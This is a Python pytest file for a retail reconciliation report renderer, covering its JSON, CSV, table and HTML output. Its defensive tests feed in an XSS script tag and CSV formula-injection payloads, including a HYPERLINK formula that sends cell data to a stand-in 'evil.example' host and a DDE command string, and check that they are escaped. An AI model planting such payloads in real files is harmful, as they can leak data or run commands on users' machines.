"""The reconciliation report in every format, from results built by hand."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest

from connector.discrepancies import Discrepancy, FixAction, ReconcileResult
from connector.errors import InputError
from connector.report import CSV_COLUMNS, FORMATS, format_refs, render, write_report
from connector.report_html import ru_number

D = Decimal
INJECTED = "<script>alert(1)</script>"
STORE_A = "Магазин «Тверская»"
STORE_B = "ТЦ Европейский"


def _manual(description: str) -> FixAction:
    return FixAction("manual", None, None, None, description)


def sample_result() -> ReconcileResult:
    """Seven discrepancies of five kinds over two stores, one account-level, one with an injected id."""
    accrual = FixAction(
        "post_posting",
        "crm",
        "crm:evotor:r-1:accrual",
        {"kind": "accrual", "amount": "42.00"},
        "Post the missing accrual of 42 points to the CRM.",
    )
    items = [
        Discrepancy(
            "missing_accrual", STORE_A, date(2026, 11, 2), {"evotor": "r-1"}, D("42"), None, D("-42"), accrual
        ),
        Discrepancy(
            "missing_accrual",
            STORE_B,
            date(2026, 11, 3),
            {"evotor": "r-2", "crm": INJECTED},
            D("10.5"),
            None,
            D("-10.5"),
            FixAction("post_posting", "crm", "crm:evotor:r-2:accrual", None, "Post 10.50 points."),
        ),
        Discrepancy(
            "amount_mismatch",
            STORE_A,
            date(2026, 11, 2),
            {"evotor": "r-3", "onec": "9f1c2b7e-0000-4e4e-8a8a-1234567890ab"},
            D("1234.50"),
            D("1200.00"),
            D("-34.50"),
            _manual("Check the receipt total in 1C."),
        ),
        Discrepancy(
            "line_mismatch",
            STORE_B,
            date(2026, 11, 4),
            {"evotor": "r-4", "onec": "r4-1c"},
            [{"sku": "A1", "amount": D("100")}],
            [{"sku": "A1", "amount": D("90")}, {"sku": "B2", "amount": D("10")}],
            D("0"),
            _manual("Lines differ: compare the receipt with the 1C document."),
        ),
        Discrepancy(
            "customer_mismatch",
            STORE_A,
            date(2026, 11, 5),
            {"evotor": "r-5", "onec": "r5-1c"},
            "+79161234567",
            "+79169876543",
            None,
            _manual("Ask the store which customer bought it; fix the card in the till or 1C."),
        ),
        Discrepancy(
            "duplicate_posting",
            STORE_B,
            date(2026, 11, 3),
            {"crm": "op-77", "evotor": "r-6"},
            D("15"),
            D("30"),
            D("15"),
            FixAction(
                "compensate_posting", "crm", "crm:fix:op-77", None, "Post −15 points to cancel the duplicate."
            ),
        ),
        Discrepancy(
            "balance_mismatch",
            None,
            date(2026, 11, 7),
            {"account": "+79161234567", "crm": "acc-1"},
            D("500"),
            D("482.25"),
            D("-17.75"),
            _manual('Balance differs by 17.75 points; see the account "history".'),
        ),
    ]
    return ReconcileResult(
        date(2026, 11, 1),
        date(2026, 11, 7),
        [STORE_A, STORE_B],
        items,
        run_id=12,
        documents_compared={"evotor": 250, "onec": 248, "crm": 190},
    )


@pytest.fixture
def result() -> ReconcileResult:
    return sample_result()


# --- JSON -------------------------------------------------------------------------------------------------


def test_json_is_as_json_and_round_trips(result: ReconcileResult) -> None:
    text = render(result, "json")
    assert json.loads(text) == result.as_json()
    assert json.loads(text, parse_float=Decimal)["summary"] == {
        "amount_mismatch": 1,
        "line_mismatch": 1,
        "customer_mismatch": 1,
        "missing_accrual": 2,
        "duplicate_posting": 1,
        "balance_mismatch": 1,
    }


def test_json_keeps_cyrillic_and_two_decimal_strings(result: ReconcileResult) -> None:
    text = render(result, "json")
    assert STORE_A in text
    assert "\\u" not in text
    first = json.loads(text)["discrepancies"][0]
    assert (first["expected"], first["actual"], first["delta"]) == ("42.00", None, "-42.00")
    assert text.startswith('{\n  "window": {\n    "from": "2026-11-01"')  # indented, contract key order


# --- CSV --------------------------------------------------------------------------------------------------


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_header_and_one_row_per_discrepancy(result: ReconcileResult) -> None:
    text = render(result, "csv")
    assert text.splitlines()[0].split(",") == list(CSV_COLUMNS)
    assert text.endswith("\r\n")
    assert len(_csv_rows(text)) == len(result.discrepancies)


def test_csv_values_parse_back(result: ReconcileResult) -> None:
    rows = _csv_rows(render(result, "csv"))
    assert rows[0] == {
        "kind": "missing_accrual",
        "store": STORE_A,
        "business_date": "2026-11-02",
        "refs": "evotor=r-1",
        "expected": "42.00",
        "actual": "",
        "delta": "-42.00",
        "unit": "points",
        "fix_action": "post_posting",
        "fix_target": "crm",
        "fix_key": "crm:evotor:r-1:accrual",
        "fix_description": "Post the missing accrual of 42 points to the CRM.",
    }
    assert rows[1]["refs"] == f"crm={INJECTED};evotor=r-2"
    assert rows[2]["unit"] == "money"
    assert json.loads(rows[3]["actual"]) == [
        {"sku": "A1", "amount": "90.00"},
        {"sku": "B2", "amount": "10.00"},
    ]
    assert (rows[4]["expected"], rows[4]["delta"]) == ("+79161234567", "")
    assert (rows[6]["store"], rows[6]["fix_target"], rows[6]["fix_key"]) == ("", "", "")
    assert rows[6]["fix_description"] == 'Balance differs by 17.75 points; see the account "history".'


def test_csv_quotes_embedded_quotes_and_commas(result: ReconcileResult) -> None:
    text = render(result, "csv")
    # RFC 4180: a field with a quote is quoted and its quotes doubled; JSON with commas is quoted.
    assert '"Balance differs by 17.75 points; see the account ""history""."' in text
    assert '"[{""sku"":""A1"",""amount"":""100.00""}]"' in text


def test_csv_cells_from_other_systems_cannot_run_as_formulas() -> None:
    hostile = Discrepancy(
        kind="amount_mismatch",
        store='=HYPERLINK("http://evil.example/?"&A1,"click")',
        business_date=date(2026, 11, 2),
        refs={"evotor": "@SUM(1+1)"},
        expected="-10.00",
        actual=None,
        delta=None,
        fix=_manual("-cmd|' /C calc'!A0"),
    )
    found = ReconcileResult(date(2026, 11, 1), date(2026, 11, 7), [], [hostile])
    row = _csv_rows(render(found, "csv"))[0]
    assert row["store"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["refs"] == "evotor=@SUM(1+1)", "starts with the system's name: not a formula"
    assert row["fix_description"] == "'-cmd|' /C calc'!A0"
    assert row["expected"] == "-10.00", "a negative amount stays a number"


def test_csv_file_starts_with_a_bom_for_excel_and_stdout_does_not(
    result: ReconcileResult, tmp_path: Path
) -> None:
    path = write_report(result, "csv", tmp_path / "report.csv")
    data = path.read_bytes()
    assert data.startswith("\ufeff".encode())
    assert data.decode("utf-8-sig") == render(result, "csv")
    assert not render(result, "csv").startswith("\ufeff")


def test_format_refs_sorts_by_system() -> None:
    assert format_refs({"onec": "b", "evotor": "a", "crm": "c"}) == "crm=c;evotor=a;onec=b"
    assert format_refs({}) == ""


# --- terminal table ---------------------------------------------------------------------------------------


def test_table_has_summary_counts_and_totals(result: ReconcileResult) -> None:
    text = render(result, "table", width=100)
    summary_part = text.split("Discrepancies by kind")[1].split("\nDiscrepancies")[0]
    summary = {line.split()[0]: line.split()[1:] for line in summary_part.splitlines() if line.strip()}
    assert summary["missing_accrual"][:3] == ["2", "52.50", "pts"]
    assert summary["amount_mismatch"][:3] == ["1", "34.50", "RUB"]
    assert summary["customer_mismatch"][:2] == ["1", "—"]
    assert summary["total"][:3] == ["7", "34.50", "RUB"]
    # Points at stake: 52.50 + 15 + 17.75 (line_mismatch has a zero delta).
    assert re.search(r"^\s+85\.25 pts", summary_part, re.MULTILINE)


def test_table_lists_every_discrepancy_within_100_columns(result: ReconcileResult) -> None:
    text = render(result, "table", width=100)
    assert max(len(line) for line in text.splitlines()) <= 100
    refs = _column(text, "Refs", "Exp · act · Δ")
    for ref in ("evotor=r-1", "onec=9f1c2b7e-0000-4e4e-8a8a-1234567890ab", f"crm={INJECTED}", "crm=acc-1"):
        assert ref in refs, ref  # long ids fold onto the next line, never cut
    assert "exp 1234.50" in text
    assert "act 1200.00" in text
    assert "Δ -34.50 RUB" in text
    assert "Δ +15.00 pts" in text
    assert "act —" in text
    assert "Δ —" in text
    assert STORE_A in text
    assert "2026-11-05" in text
    assert "[post_posting → crm]" in text
    assert "[manual]" in text
    assert "Post the missing accrual of 42 points to the CRM." in " ".join(_column(text, "Fix", None).split())


def _column(text: str, header: str, next_header: str | None) -> str:
    """The text of one column of the discrepancy table, its cells' lines joined (folded ids come back whole)."""
    lines = re.split(r"\nDiscrepancies *\n", text)[1].splitlines()
    head = next(line for line in lines if header in line)
    start = head.index(header)
    end = head.index(next_header) if next_header else None
    return "".join(
        line[start:end].strip() + ("" if next_header else " ") for line in lines[lines.index(head) + 2 :]
    )


def test_table_prints_rich_markup_in_data_literally(result: ReconcileResult) -> None:
    result.stores.append("[red]Склад[/red]")
    result.discrepancies.append(
        Discrepancy(
            "orphan_posting", "[red]Склад[/red]", None, {"crm": "[bold]x"}, None, D("3"), D("3"), _manual("?")
        )
    )
    text = render(result, "table", width=140)
    assert "stores: Магазин «Тверская», ТЦ Европейский, [red]Склад[/red]" in text
    assert "crm=[bold]x" in text
    assert re.search(r"^\s*orphan_posting\s+1\s+3.00 pts", text, re.MULTILINE)
    assert "\n[red]Склад[/red] " in text


def test_table_lists_at_most_max_rows_but_counts_all(result: ReconcileResult) -> None:
    text = render(result, "table", max_rows=2)
    assert "… and 5 more, not listed here" in text
    assert "evotor=r-2" in text
    assert "evotor=r-3" not in text
    assert re.search(r"^\s*total\s+7\s", text, re.MULTILINE)
    assert "more, not listed" not in render(result, "table", max_rows=None)


def test_table_when_everything_agrees() -> None:
    text = render(ReconcileResult(date(2026, 11, 1), date(2026, 11, 1), ["S1"]), "table")
    assert "All systems agree" in text
    assert "Discrepancies by kind" not in text


def test_table_title_and_header(result: ReconcileResult) -> None:
    text = render(result, "table", title="Ночная сверка")
    assert text.splitlines()[0] == "Ночная сверка"
    assert "run 12" in text
    assert "crm 190, evotor 250, onec 248" in text


def test_unknown_format_is_an_input_error(result: ReconcileResult) -> None:
    with pytest.raises(InputError, match="unknown report format 'pdf'"):
        render(result, "pdf")  # type: ignore[arg-type]
    assert FORMATS == ("table", "json", "csv", "html")


# --- HTML -------------------------------------------------------------------------------------------------


class _Page(HTMLParser):
    """Collects what the tests look at: tags with attributes, SVG bars per chart, table rows, script text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.svgs: list[list[dict[str, str | None]]] = []
        self.rows: list[dict[str, str | None]] = []
        self.scripts: list[str] = []
        self._in_script = False
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        self.tags.append((tag, attributes))
        if tag == "svg":
            self.svgs.append([])
        elif tag == "rect" and "bar" in (attributes.get("class") or "").split():
            self.svgs[-1].append(attributes)
        elif tag == "tr" and "data-kind" in attributes:
            self.rows.append(attributes)
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.text).append(data)


def _page(result: ReconcileResult) -> tuple[str, _Page]:
    html = render(result, "html")
    page = _Page()
    page.feed(html)
    return html, page


def test_html_is_self_contained(result: ReconcileResult) -> None:
    html, page = _page(result)
    assert html.startswith("<!DOCTYPE html>")
    assert "http://" not in html
    assert "https://" not in html
    for tag, attributes in page.tags:
        assert not {"src", "href"} & attributes.keys(), tag
    assert [tag for tag, _ in page.tags if tag in {"link", "iframe", "img", "object"}] == []
    assert len(page.scripts) == 1  # the inline filter script, nothing else


def test_html_charts_have_one_bar_per_kind(result: ReconcileResult) -> None:
    _, page = _page(result)
    assert len(page.svgs) == 4  # by kind, money at stake, points at stake, heatmap
    by_kind, money, points, heatmap = page.svgs
    assert [bar["data-kind"] for bar in by_kind] == list(result.summary())
    assert [bar["data-kind"] for bar in money] == ["amount_mismatch", "line_mismatch"]
    assert [bar["data-kind"] for bar in points] == [
        "missing_accrual",
        "duplicate_posting",
        "balance_mismatch",
    ]
    assert heatmap == []
    widths = {bar["data-kind"]: int(bar["width"] or 0) for bar in by_kind}
    assert widths["missing_accrual"] == 2 * widths["amount_mismatch"]  # 2 against 1


def test_html_heatmap_counts_by_store_and_day(result: ReconcileResult) -> None:
    html, _ = _page(result)
    assert f"{STORE_B}, 2026-11-03: 2" in html  # missing_accrual + duplicate_posting
    assert f"{STORE_A}, 2026-11-02: 2" in html
    assert "(account), 2026-11-07: 1" in html
    assert f"{STORE_A}, 2026-11-01: 0" in html  # empty days of the window are drawn too


def test_html_heatmap_of_a_long_window_shows_only_days_with_discrepancies() -> None:
    fix = _manual("Check it.")
    items = [
        Discrepancy("orphan_posting", "S1", date(2026, 3, 5), {"crm": "a"}, None, D("5"), D("5"), fix),
        Discrepancy("orphan_posting", "S9", date(2026, 1, 2), {"crm": "b"}, None, D("7"), D("7"), fix),
    ]
    html = render(ReconcileResult(date(2026, 1, 1), date(2026, 6, 30), ["S1"], items), "html")
    cells = re.findall(r"<title>(S\d, [^<]+)</title>", html)
    assert cells == ["S1, 2026-01-02: 0", "S1, 2026-03-05: 1", "S9, 2026-01-02: 1", "S9, 2026-03-05: 0"]


def test_html_has_every_discrepancy_row(result: ReconcileResult) -> None:
    _html, page = _page(result)
    assert [row["data-kind"] for row in page.rows] == [item.kind for item in result.discrepancies]
    assert [row["data-date"] for row in page.rows][-1] == "2026-11-07"
    assert page.rows[0]["data-store"] != page.rows[1]["data-store"]
    assert page.rows[0]["data-store"] == page.rows[2]["data-store"]
    text = "".join(page.text)
    for needle in (
        "9f1c2b7e-0000-4e4e-8a8a-1234567890ab",
        "op-77",
        "Check the receipt total in 1C.",
        STORE_B,
    ):
        assert needle in text
    assert "Showing 7 of 7" in text


def test_html_escapes_injected_text(result: ReconcileResult) -> None:
    html, page = _page(result)
    assert INJECTED not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert INJECTED in "".join(page.text)  # shown as text
    assert INJECTED.lower() in (page.rows[1]["data-search"] or "")  # and searchable


def test_html_free_text_search_covers_ids_values_and_fix(result: ReconcileResult) -> None:
    _, page = _page(result)
    customer = page.rows[4]["data-search"] or ""
    for needle in ("r5-1c", "+79169876543", "ask the store", "магазин «тверская»", "2026-11-05"):
        assert needle in customer, needle
    assert "crm:fix:op-77" in (page.rows[5]["data-search"] or "")


def test_html_russian_numbers(result: ReconcileResult) -> None:
    html, _ = _page(result)
    assert ">1\u00a0234,50\u00a0₽<" in html  # expected of the amount mismatch
    assert "\u221234,50\u00a0₽" in html  # delta −34,50 ₽
    assert "+15,00\u00a0pts" in html
    assert ru_number(D("-1234567.5")) == "\u22121\u00a0234\u00a0567,50"
    assert ru_number(D("0")) == "0,00"


def test_html_when_everything_agrees() -> None:
    _, page = _page(ReconcileResult(date(2026, 11, 1), date(2026, 11, 7), ["S1"]))
    assert "All systems agree" in "".join(page.text)
    assert page.svgs == []
    assert page.rows == []


def test_html_title_is_escaped(result: ReconcileResult) -> None:
    html = render(result, "html", title="Сверка <b>")
    assert "<title>Сверка &lt;b&gt;</title>" in html


# --- files ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_write_report_writes_exactly_what_render_returns(
    result: ReconcileResult, tmp_path: Path, fmt: str
) -> None:
    path = write_report(result, fmt, tmp_path / "out" / f"report.{fmt}")  # type: ignore[arg-type]
    bom = "\ufeff" if fmt == "csv" else ""
    assert path.read_bytes() == (bom + render(result, fmt)).encode("utf-8")  # type: ignore[arg-type]


def test_write_report_names_the_file_it_cannot_write(result: ReconcileResult, tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("")
    with pytest.raises(InputError, match="cannot write the report") as caught:
        write_report(result, "json", blocker / "report.json")
    assert caught.value.context["file"] == str(blocker / "report.json")
